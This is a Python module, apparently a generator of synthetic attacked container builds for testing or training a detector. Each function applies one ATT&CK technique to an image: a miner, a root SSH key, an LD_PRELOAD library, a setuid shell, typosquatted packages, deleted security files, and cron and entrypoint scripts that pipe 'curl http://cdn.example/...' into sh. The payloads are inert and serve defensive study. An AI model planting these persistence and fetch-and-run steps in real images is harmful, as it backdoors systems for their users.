"""Attacks that show in the contents: one ATT&CK technique each, put into an honest build.

Everything is inert: what would be a program is a header that no loader accepts and noise, keys are
noise, hosts are of the reserved domain `.example`. The attack stands in the same layer as the
application, with the same history text and the same number of layers: only what it needs differs.
What a build has no place for (no Python, no library to replace) yields no attack.
"""

import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace

from layerproof.testing.images import Dir, File, Node, Whiteout
from learning.applications import Build, library, package_files, public_key
from learning.cases import NO_ATTACK
from learning.context_attacks import one_edit
from learning.prepared import Prepared

# Names that would not stand out in a listing (T1036.005).
PLAUSIBLE = (
    "sysmond",
    "dbus-helper",
    "netd",
    "logrotated",
    "kworker",
    "udevd2",
    "updater",
    "healthd",
)
POPULAR = (
    "requests",
    "urllib3",
    "django",
    "flask",
    "numpy",
    "express",
    "lodash",
    "axios",
    "celery",
)
SECURITY = (
    "etc/apt/trusted.gpg.d/", "etc/security/", "etc/pam.d/", "usr/share/keyrings/",
    "etc/ca-certificates", "usr/share/ca-certificates/", "etc/apk/keys/", "etc/ssl/",
    "usr/lib/apt/methods/gpgv", "usr/bin/gpgv", "etc/login.defs", "etc/securetty",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Kit:
    """What an attacker brings: bases of his own."""

    bases: Sequence[Prepared]


Attack = Callable[[Build, Kit, random.Random], Build | None]


def _with(build: Build, more: Mapping[str, Node], **config: object) -> Build:
    return replace(build, tree={**build.tree, **more}, run={**build.run, **config})


def miner(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1496: a program, a configuration with a pool, started beside the application."""
    folder = chance.choice(("usr/local/bin", "tmp", "var/tmp/.cache", "opt/.x", "usr/lib/systemd"))
    name = chance.choice(PLAUSIBLE)
    wallet = chance.randbytes(32).hex()
    pool = f'{{"pools":[{{"url":"stratum+tcp://pool.example:3333","user":"{wallet}"}}]}}\n'
    data = library(chance, chance.randrange(200_000, 600_000))
    return _with(
        build,
        {f"{folder}/{name}": File(data, mode=0o755), f"{folder}/config.json": File(pool.encode())},
    )


def authorized_keys(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1098.004: a key for root."""
    return _with(
        build,
        {
            "root/.ssh": Dir(mode=0o700),
            "root/.ssh/authorized_keys": File(public_key(chance, "admin"), mode=0o600),
        },
    )


def ld_preload(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1574.006: a library that every program loads."""
    folder = chance.choice(("usr/lib/x86_64-linux-gnu", "usr/local/lib", "lib"))
    path = f"{folder}/lib{chance.choice(PLAUSIBLE)}.so"
    return _with(
        build,
        {
            path: File(library(chance, chance.randrange(15_000, 60_000)), mode=0o755),
            "etc/ld.so.preload": File(f"/{path}\n".encode()),
        },
    )


def cron(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1053.003: a job that fetches and runs."""
    name = chance.choice(PLAUSIBLE)
    place = chance.choice(
        (f"etc/cron.d/{name}", "var/spool/cron/crontabs/root", f"etc/cron.hourly/{name}")
    )
    who = "root " if place.startswith("etc/cron.d") else ""
    line = f"*/{chance.randrange(2, 30)} * * * * {who}curl -s http://cdn.example/{name} | sh\n"
    if place.startswith("etc/cron.hourly"):
        line = f"#!/bin/sh\ncurl -s http://cdn.example/{name} | sh\n"
    mode = 0o755 if place.startswith("etc/cron.hourly") else 0o600
    return _with(build, {place: File(line.encode(), mode=mode)})


def setuid_shell(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1548.001: a shell that gives root."""
    folder = chance.choice(("usr/local/bin", "usr/lib", "var/tmp", "usr/bin"))
    data = library(chance, chance.randrange(80_000, 140_000))
    return _with(build, {f"{folder}/{chance.choice(PLAUSIBLE)}": File(data, mode=0o4755)})


def replaced_login(build: Build, kit: Kit, chance: random.Random) -> Build | None:
    """T1554: the program that asks for passwords, or that becomes root, is another one."""
    names = ("login", "su", "passwd", "sshd", "sudo", "agetty", "busybox")
    files = build.lower_files()
    there = [p for p in sorted(files) if p.rpartition("/")[2] in names and "bin/" in p]
    if not there:
        return None
    path = chance.choice(there)
    size, mode = files[path]
    changed = library(chance, size + chance.randrange(-size // 10, size // 10))
    return _with(build, {path: File(changed, mode=mode)})


def typosquat_package(build: Build, kit: Kit, chance: random.Random) -> Build | None:
    """T1195.001: a dependency with almost the name of a popular one."""
    if build.language not in ("python", "node"):
        return None
    name = one_edit(chance.choice(POPULAR), chance)
    return _with(build, package_files(name, build.language, chance))


def other_chain(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1525: the same application and the same layers, on the attacker's base."""
    return replace(build, lower=(chance.choice(kit.bases), *build.lower[1:]))


def trojaned_library(build: Build, kit: Kit, chance: random.Random) -> Build | None:
    """T1195.002: a shared library, or a module, with other bytes of equal size and mode."""
    files = build.lower_files()
    there = sorted(
        path
        for path, (size, _) in files.items()
        if size > 4096
        and (".so" in path.rpartition("/")[2] or "-packages/" in path)
        and not path.endswith(".pyc")
    )
    if not there:
        return None
    path = chance.choice(there)
    size, mode = files[path]
    return _with(build, {path: File(library(chance, size), mode=mode)})


def wrapped_entrypoint(build: Build, kit: Kit, chance: random.Random) -> Build:
    """T1036.005: something runs before the application."""
    entry = build.run["Entrypoint"]
    assert isinstance(entry, list), "every build has one"
    name = chance.choice(("docker-entrypoint.sh", "init", "entrypoint", "run.sh", "tini-wrapper"))
    path = f"{chance.choice(('usr/local/bin', 'usr/bin', 'opt'))}/{name}"
    script = f'#!/bin/sh\ncurl -s http://cdn.example/i | sh &\nexec {entry[0]} "$@"\n'
    return _with(build, {path: File(script.encode(), mode=0o755)}, Entrypoint=[f"/{path}"])


def security_whiteout(build: Build, kit: Kit, chance: random.Random) -> Build | None:
    """T1562.001: keys, policies and checks of the base are deleted."""
    there = [p for p in sorted(build.lower_files()) if p.startswith(SECURITY)]
    if len(there) < 2:
        return None
    gone = chance.sample(there, min(len(there), chance.randrange(2, 6)))
    return _with(build, {path: Whiteout() for path in gone})


def no_attack(build: Build, kit: Kit, chance: random.Random) -> Build:
    """The pipeline alone: the build is made again, and one of its sources differs by a word."""
    path = chance.choice([path for path in sorted(build.tree) if path.startswith("srv/app/part_")])
    node = build.tree[path]
    assert isinstance(node, File), "parts are files"
    return _with(build, {path: replace(node, data=node.data + b"# again\n")})


ATTACKS: Mapping[str, Attack] = {
    "miner": miner,
    "authorized-keys": authorized_keys,
    "ld-preload": ld_preload,
    "cron": cron,
    "setuid-shell": setuid_shell,
    "replaced-login": replaced_login,
    "typosquat-package": typosquat_package,
    "other-chain": other_chain,
    "trojaned-library": trojaned_library,
    "wrapped-entrypoint": wrapped_entrypoint,
    "security-whiteout": security_whiteout,
    NO_ATTACK: no_attack,
}
